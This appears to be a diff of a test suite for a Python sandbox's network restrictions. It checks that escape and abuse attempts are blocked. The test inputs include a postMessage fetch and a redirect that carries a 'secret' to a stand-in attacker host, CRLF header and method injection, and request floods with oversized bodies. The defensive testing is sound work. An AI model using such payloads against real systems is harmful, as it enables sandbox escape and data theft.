@@ -90,6 +90,16 @@ await forge("header", url="http://${granted.host}/", headers=[["x-a", "1\\r\\nHo
 await forge("method", url="http://${granted.host}/", method="GET / HTTP/1.1\\r\\nX: ")
 await forge("many headers", url="http://${granted.host}/", headers=[["x-a", "v" * 60000]] * 5000)
 await forge("long", url="http://${granted.host}/" + "x" * 1000000)
+import js
+from pyodide.ffi import to_js
+try:
+    js.self.postMessage(to_js({"type": "fetch", "request": 1, "url": "${app.attacker.http}/post"}, dict_converter=js.Object.fromEntries))
+except AttributeError:
+    print("no postMessage")
+try:
+    await js.fetch("http://${granted.host}/direct")
+except Exception as error:
+    print("direct", "the sandbox has no network" in str(error))
 `);
         expect(text.trim().split("\n")).toEqual([
           "plain unasked",
@@ -103,7 +113,58 @@ await forge("long", url="http://${granted.host}/" + "x" * 1000000)
           "method request",
           "many headers size",
           "long address",
+          "no postMessage",
+          "direct True",
         ]);
+        expect(granted.requests.some((request) => request.url === "/direct")).toBe(false);
+      });
+
+      test("a redirect to a host that is not granted is not followed", async () => {
+        const before = granted.requests.length;
+        const { text } = await attack(`
+show("redirect", lambda: urllib.request.urlopen("http://${granted.host}/to?${encodeURIComponent(`${app.attacker.http}/redirected?secret`)}"))
+show("inside", lambda: urllib.request.urlopen("http://${granted.host}/to?/here"))
+`);
+        expect(text).toContain("it redirects to a host that is not granted");
+        expect(text).toContain("inside GOT granted");
+        expect(granted.requests.slice(before).map((request) => request.url.slice(0, 4))).toEqual(["/to?", "/to?", "/her"]);
+      });
+
+      test("a flood of requests and a body without measure end where the limits are", async () => {
+        const before = granted.requests.length;
+        const { text } = await attack(`
+import asyncio
+async def one(index):
+    try:
+        return (await pyfetch(f"http://${granted.host}/flood{index}")).status
+    except OSError as error:
+        return error.reason
+answers = await asyncio.gather(*(one(index) for index in range(260)))
+print(answers.count(200), answers.count("count"))
+try:
+    await pyfetch("http://${granted.host}/large", method="POST", body=b"x" * (9 * 1024 * 1024))
+except OSError as error:
+    print(error.reason)
+`);
+        expect(text).toBe("200 60\ncount\n");
+        expect(granted.requests.length - before).toBe(200);
+      });
+
+      test("an answer that comes after its run belongs to nobody", async () => {
+        const { result } = await attack(`
+import os
+task = __import__("asyncio").ensure_future(pyfetch("http://${granted.host}/late?wait=700"))
+await __import__("asyncio").sleep(0.2)
+os._exit(0)
+`);
+        expect(result.exitCode).toBe(0);
+        const { text } = await attack(`
+import asyncio
+await asyncio.sleep(1.2)
+handed = skep_fetch._host.waitFor(50)
+print("late", handed if not handed else handed.head)
+`);
+        expect(text).toMatch(/^late (None|jsnull)\n$/);
       });
     });
 }
